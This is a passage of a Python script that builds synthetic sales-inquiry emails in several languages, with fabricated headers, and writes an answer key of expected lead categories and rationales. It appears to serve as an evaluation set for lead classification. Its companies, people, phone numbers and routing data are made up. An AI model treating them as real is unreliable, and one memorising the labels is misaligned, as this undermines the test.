Tomasz Wrona
Florexa s.c.
ul. Żeromskiego 61, 26-600 Radom
tel. 601 238 744
"""
    root = text(body_txt, cte="qp")
    return dict(seed=212, rcpt="own", t=t,
                from_=("Tomasz Wrona", "t.wrona@florexa.pl"),
                subject="Zapytanie - sztuczne kwiaty / współpraca",
                msgid=f"<{hexr(rnd, 8)}-{hexr(rnd, 4)}-{hexr(rnd, 4)}-{hexr(rnd, 4)}-{hexr(rnd, 12)}@florexa.pl>",
                mailer=[("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "pl"), ("MIME-Version", "1.0")],
                envfrom="t.wrona@florexa.pl",
                client={"helo": host, "rdns": host, "ip": f"46.242.{rnd.randint(128, 254)}.{rnd.randint(2, 250)}", "notls": True},
                hops=[f"from [192.168.0.103] (89-{cip[0]}-{cip[1]}-{cip[2]}.dynamic.chello.pl [89.{cip[0]}.{cip[1]}.{cip[2]}])\n\tby {host} (Postfix) with ESMTPA id {hexr(rnd, 10, True)}\n\tfor <RCPT>; {D(t, 1)}"],
                auth=dict(spf="softfail", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="B", expected_buyer_type="oem_importer", is_genuine=True, kind="some_detail",
                            language="pl", email="t.wrona@florexa.pl", company="Florexa s.c.", country="PL",
                            website="florexa.pl",
                            why="Polish start-up with its own brand for cemetery and interior arrangements; our artificial flowers, EU market, but no quantities yet (trial half-container); small home.pl host, SPF softfail, no DKIM."))


@mail
def anadolu():
    rnd = random.Random(213)
    t = at(2026, 8, 19, 11, 15, 29, 3)
    g, dk = workspace(rnd, t, "anadoludekor.com.tr")
    body_txt = """Merhaba,

Anadolu Dekor olarak İstanbul'dan Türkiye geneline (yaklaşık 300 mağaza ve çiçekçi) ev dekorasyonu ve yılbaşı ürünleri toptan satışı yapıyoruz.

2026 yılbaşı sezonu için kırılmaz yılbaşı topları, yılbaşı süsü setleri ve seramik vazo modellerinize ilgi duyuyoruz. Güncel kataloğunuzu, CIF Mersin fiyatlarınızı ve ürün başına minimum sipariş adetlerinizi gönderebilir misiniz? İlk etapta 1x40HC karışık konteyner düşünüyoruz.

Ayrıca Türkiye'ye daha önce ihracat yaptıysanız menşe şahadetnamesi ve ürün uygunluk belgeleri konusunda bilgi rica ederiz.

İyi çalışmalar,
Serkan Aksoy
Satın Alma Sorumlusu
Anadolu Dekor Toptan Tic. A.Ş.
İkitelli OSB, Başakşehir / İstanbul
+90 212 671 44 80
"""
    root = alt(text(body_txt), html(para_html(body_txt, "gmail")), bnd(rnd, "gmail"))
    return dict(seed=213, rcpt="aliyun", t=t,
                from_=("Serkan Aksoy", "serkan.aksoy@anadoludekor.com.tr"),
                subject="Yılbaşı süsleri ve seramik vazo fiyat talebi",
                msgid=g["msgid"], mailer=[("MIME-Version", "1.0")],
                envfrom="serkan.aksoy@anadoludekor.com.tr", client=g["client"], hops=g["hops"], pre=g["pre"], dkim=dk,
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE dis=NONE"),
                body=root,
                label=label(expected_category="B", expected_buyer_type="wholesaler", is_genuine=True, kind="some_detail",
                            language="tr", email="serkan.aksoy@anadoludekor.com.tr", company="Anadolu Dekor Toptan Tic. A.Ş.",
                            country="TR", website="anadoludekor.com.tr",
                            why="Istanbul wholesaler, our Christmas and vase lines, a mixed 40HC and CIF Mersin, but no SKUs/quantities and Turkey is outside the target markets."))


@mail
def dekorplus():
    rnd = random.Random(214)
    t = at(2026, 3, 17, 10, 40, 12, 3)
    host = f"forward{rnd.randint(100, 500)}b.mail.yandex.net"
    body_txt = """Здравствуйте, Лили!

Компания «Декор Плюс» (Москва) - оптовый поставщик товаров для дома, работаем с сетями и маркетплейсами (Ozon, Wildberries).

Просим подготовить коммерческое предложение:
1. Ваза керамическая, высота 25 см, матовая глазурь, 4 цвета - 1 500 шт. каждого цвета
2. Ваза керамическая напольная, высота 45 см, 2 цвета - 600 шт. каждого цвета
3. Свеча ароматическая в стакане 180 г, 5 ароматов - 2 000 шт. каждого аромата

Упаковка: индивидуальная коробка, маркировка на русском языке, штрихкоды наши.
Условия: FOB Нинбо, доставка через Владивосток. Оплата в юанях (CNY), 30 % предоплата, 70 % перед отгрузкой, платим через банк-агент.
Сроки: отгрузка до 15 августа.

Просьба также прислать сертификаты и фото образцов.

С уважением,
Ирина Соколова
Менеджер по закупкам
ООО «Декор Плюс»
+7 495 118-42-76
"""
    root = text(body_txt, cte="b64")
    return dict(seed=214, rcpt="exmail", t=t,
                from_=("Ирина Соколова", "i.sokolova@dekorplus.ru"),
                subject="Запрос КП: вазы керамические и свечи, 1х40HQ",
                msgid=f"<{rnd.randint(100000, 999999)}{int(t.timestamp())}@mail.yandex.ru>",
                mailer=[("X-Mailer", "Yamail [ http://yandex.ru ] 5.0"), ("MIME-Version", "1.0")],
                envfrom="i.sokolova@dekorplus.ru",
                client={"helo": host, "rdns": host, "ip": f"178.154.239.{rnd.randint(60, 220)}"},
                hops=[f"from mail-nwsmtp-mxback-production-main-{rnd.randint(10, 90)}.vla.yp-c.yandex.net (mail-nwsmtp-mxback-production-main-{rnd.randint(10, 90)}.vla.yp-c.yandex.net [IPv6:2a02:6b8:c0d:{hexr(rnd, 4)}:0:640:{hexr(rnd, 4)}:0])\n\tby {host} (Yandex) with ESMTPS id {alnum(rnd, 12)}\n\tfor <RCPT>; {D(t, 1)}"],
                dkim=("dekorplus.ru", "mail", ["from", "to", "subject", "message-id", "date"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE dis=NONE"),
                body=root,
                label=label(expected_category="C", expected_buyer_type="wholesaler", is_genuine=True, kind="specific",
                            language="ru", email="i.sokolova@dekorplus.ru", company="ООО «Декор Плюс»", country="RU",
                            website="dekorplus.ru",
                            why="Real, very specific Moscow wholesaler RFQ (quantities, packing, FOB, CNY via an agent bank), but Russia falls under the profile's excluded SANCTIONED markets, so a careful rep parks it as C; not a scam."))


@mail
def oak_ember():
    rnd = random.Random(215)
    t = at(2026, 10, 13, 16, 2, 33, -5)
    g, dk = workspace(rnd, t, "oakandember.com")
    body_txt = """Hi,

I'm the sourcing lead at Oak & Ember, we're a furniture and lighting retailer with 6 showrooms in Texas and Arizona plus online.

We're looking for a factory for the following, starting with a 40' container:
- LED vanity mirrors, round 24" and 32", touch dimmer, UL listed - 400 units each
- Boucle ottomans, 18" round, cream & taupe - 300 each
- Natural rattan side tables, 20" - 250

Can you quote FOB with lead times? We need UL for anything electrical and CA TB117-2013 for upholstered items.

Thanks,
Tyler Brooks
Sourcing & Product Development
Oak & Ember Home
2450 Commerce St, Dallas TX 75226
"""
    root = alt(text(body_txt), html(para_html(body_txt, "gmail")), bnd(rnd, "gmail"))
    return dict(seed=215, rcpt="own", t=t,
                from_=("Tyler Brooks", "tyler@oakandember.com"),
                subject="Sourcing inquiry - LED vanity mirrors, boucle ottomans, rattan side tables",
                msgid=g["msgid"], mailer=[("MIME-Version", "1.0")],
                envfrom="tyler@oakandember.com", client=g["client"], hops=g["hops"], pre=g["pre"], dkim=dk,
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE dis=NONE"),
                body=root,
                label=label(expected_category="C", expected_buyer_type="retailer", is_genuine=True, kind="specific",
                            language="en", email="tyler@oakandember.com", company="Oak & Ember Home", country="US",
                            website="oakandember.com",
                            why="Genuine US furniture/lighting retailer with a clear RFQ, but for mirrors, ottomans and rattan tables, none of which we make."))


@mail
def huber_gmx():
    rnd = random.Random(216)
    t = at(2026, 11, 9, 18, 25, 7, 1)
    body_txt = """Sehr geehrte Damen und Herren,

ich habe auf Ihrer Internetseite die große weiße Bodenvase mit den Rillen gesehen (ca. 60 cm hoch). Ich würde gerne 2 Stück für mein Wohnzimmer bestellen, eventuell auch eine kleinere dazu.

Können Sie mir bitte mitteilen, was das mit Versand nach Österreich kostet? Ich wohne in Graz. Bezahlen würde ich per Überweisung oder PayPal.

Vielen Dank und freundliche Grüße
Brigitte Huber
"""
    root = alt(text(body_txt), html(para_html(body_txt, "plain")), bnd(rnd, "other"))
    return dict(seed=216, rcpt="aliyun", t=t,
                from_=("Brigitte Huber", "brigitte.huber61@gmx.at"),
                subject="Bodenvase",
                msgid=f"<trinity-{hexr(rnd, 8)}-{hexr(rnd, 4)}-{hexr(rnd, 4)}-{hexr(rnd, 4)}-{hexr(rnd, 12)}-{int(t.timestamp() * 1000)}@3c-app-gmx-bs{rnd.randint(10, 60)}>",
                mailer=[("Importance", "normal"), ("Sensitivity", "Normal"), ("X-Priority", "3"),
                        ("X-UI-Message-Type", "mail"), ("MIME-Version", "1.0")],
                envfrom="brigitte.huber61@gmx.at",
                client={"helo": "mout.gmx.net", "rdns": "mout.gmx.net", "ip": f"212.227.17.{rnd.randint(20, 22)}"},
                hops=[f"from [62.46.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}] ([62.46.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}]) by\n web-mail.gmx.net (3c-app-gmx-bs{rnd.randint(10, 60)}.server.lan [172.19.170.{rnd.randint(60, 120)}])\n (via HTTP); {D(t, 0)}"],
                dkim=("gmx.at", "s31663417", ["from", "to", "subject", "date", "message-id", "content-type", "mime-version"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=QUARANTINE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="C", expected_buyer_type="end_user", is_genuine=True, kind="some_detail",
                            language="de", email="brigitte.huber61@gmx.at", company="", country="AT", website="",
                            why="Private person in Graz wants two floor vases for her living room: honest but a tiny private order."))


@mail
def vinayak_mass():
    rnd = random.Random(217)
    t = at(2026, 6, 30, 12, 45, 30, 5.5)
    host = f"p3plsmtpa{rnd.randint(10, 12)}-{rnd.randint(1, 9):02d}.prod.phx3.secureserver.net"
    body_txt = """Dear Sir / Madam,

Greetings from Shree Vinayak Impex !!

We are leading importer and trader based in Mumbai, India dealing in home decor, gift items, kitchenware, LED lights, furniture, toys and stationery. We are having bulk requirement for our upcoming season.

Kindly send us your latest product catalogue along with your best FOB price list for all the items you are manufacturing, MOQ and payment terms. Please also mention your lowest price as we are comparing offers from many suppliers.

Kindly treat this as urgent.

Thanks & Regards
Rajesh Mehta
Purchase Manager
Shree Vinayak Impex
Bhiwandi, Thane, Maharashtra
Mob/WhatsApp: +91 98201 47735
"""
    root = alt(text(body_txt), html(para_html(body_txt, "outlook")), bnd(rnd, "outlook"))
    return dict(seed=217, rcpt="own", t=t, to="undisclosed-recipients:;",
                from_=("Purchase Department", "purchase@shreevinayakimpex.in"),
                subject="Requirement of products - please send best price list",
                msgid=f"<00{hexr(rnd, 2)}01dc{hexr(rnd, 4)}${hexr(rnd, 8)}${hexr(rnd, 8)}@shreevinayakimpex.in>",
                mailer=[("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "en-in"), ("MIME-Version", "1.0")],
                envfrom="purchase@shreevinayakimpex.in",
                client={"helo": host, "rdns": host, "ip": f"68.178.252.{rnd.randint(100, 200)}"},
                hops=[f"from DESKTOP-PURCH1 ([49.36.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}])\n\tby :SMTPAUTH: with ESMTPSA\n\tid {alnum(rnd, 18)}; {D(t, 1, tz(-7))}"],
                auth=dict(spf="pass", dkim="none", dmarc="none"),
                body=root,
                label=label(expected_category="C", expected_buyer_type="unknown", is_genuine=True, kind="vague",
                            language="en", email="purchase@shreevinayakimpex.in", company="Shree Vinayak Impex", country="IN",
                            website="shreevinayakimpex.in",
                            why="Mass-mailed template (undisclosed recipients) listing every category, asking the lowest price 'as we are comparing': price fishing from a non-target market. A real trader, not a scam."))


@mail
def yasmin_syria():
    rnd = random.Random(218)
    t = at(2026, 2, 2, 14, 5, 21, 3)
    g = gmail_side(rnd, t)
    body_txt = """السلام عليكم

نحن مؤسسة الياسمين التجارية في دمشق - سوريا، نعمل في استيراد وتوزيع مواد الديكور والهدايا على المحلات في دمشق وحلب وحمص.

نرغب بالحصول على أسعاركم للورود الصناعية (ورد جوري، أوركيد، أغصان خضراء) والمزهريات السيراميك، الكمية المبدئية حوالي 20 ألف قطعة ورد و3 آلاف مزهرية.

الشحن يكون إلى ميناء اللاذقية أو عن طريق ميناء بيروت. الدفع يتم عن طريق مكتب صرافة في دبي أو تحويل من شركة شقيقة في العراق.

نرجو إرسال الكتالوج والأسعار FOB.

مع الشكر
محمد الحلبي
مؤسسة الياسمين التجارية
دمشق - المنطقة الحرة
واتساب: +963 944 218 563
"""
    root = alt(text(body_txt, cte="b64"), html(para_html(body_txt, "gmail"), cte="b64"), bnd(rnd, "gmail"))
    return dict(seed=218, rcpt="own", t=t,
                from_=("محمد الحلبي", "yasmin.trading.dam@gmail.com"),
                subject="طلب أسعار ورود صناعية ومزهريات",
                msgid=g["msgid"], mailer=[("MIME-Version", "1.0")],
                envfrom="yasmin.trading.dam@gmail.com", client=g["client"], hops=g["hops"], pre=g["pre"],
                dkim=("gmail.com", "20230601", ["mime-version", "from", "date", "message-id", "subject", "to"]),
                auth=dict(spf="pass", dkim="pass", dmarc="pass", dmarc_policy="p=NONE sp=QUARANTINE dis=NONE"),
                body=root,
                label=label(expected_category="C", expected_buyer_type="wholesaler", is_genuine=True, kind="some_detail",
                            language="ar", email="yasmin.trading.dam@gmail.com", company="مؤسسة الياسمين التجارية",
                            country="SY", website="",
                            why="Plausible Damascus distributor for our flowers and vases with rough quantities, but Syria is a sanctioned market and payment via an exchange office or a sister company in Iraq; a careful rep parks it as C."))


# ============================================================================= build


def main():
    order = list(range(1, 81))
    random.Random(20260505).shuffle(order)
    eml_nums = sorted(order[:40])
    txt_nums = sorted(order[40:])
    shuffled = list(ITEMS)
    random.Random(77).shuffle(shuffled)
    labels = []
    for num, fn in zip(eml_nums, shuffled):
        m = fn()
        name = f"h5-{num:03d}.eml"
        data = render(m)
        assert len(data) < 300_000, (name, len(data))
        (OUT / name).write_bytes(data)
        labels.append({"file": name, **m["label"]})
    labels.sort(key=lambda x: x["file"])
    (OUT / "labels.json").write_text(json.dumps(labels, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    print("eml:", len(labels), "txt ids:", " ".join(f"h5-{n:03d}" for n in txt_nums))


if __name__ == "__main__":
    main()
